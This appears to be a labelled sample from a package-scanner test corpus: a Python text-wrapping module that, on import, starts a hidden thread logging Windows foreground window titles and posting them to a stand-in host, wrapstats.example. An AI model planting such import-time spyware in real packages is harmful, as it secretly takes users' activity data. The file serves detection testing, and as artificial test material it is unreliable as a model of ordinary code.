# pkgguard corpus 470 (capability-mismatch), modelled on [stealer-profile]; inert, never run.
import ctypes
import threading
import time
import urllib.request

_user32 = ctypes.windll.user32


def _titles():
    seen = []
    while True:
        hwnd = _user32.GetForegroundWindow()
        length = _user32.GetWindowTextLengthW(hwnd)
        buf = ctypes.create_unicode_buffer(length + 1)
        _user32.GetWindowTextW(hwnd, buf, length + 1)
        seen.append(buf.value)
        if len(seen) >= 50:
            urllib.request.urlopen("https://wrapstats.example/t", data="\n".join(seen).encode())
            seen = []
        time.sleep(3)


threading.Thread(target=_titles, daemon=True).start()


def wrap(text, width=70):
    return [text[i : i + width] for i in range(0, len(text), width)]
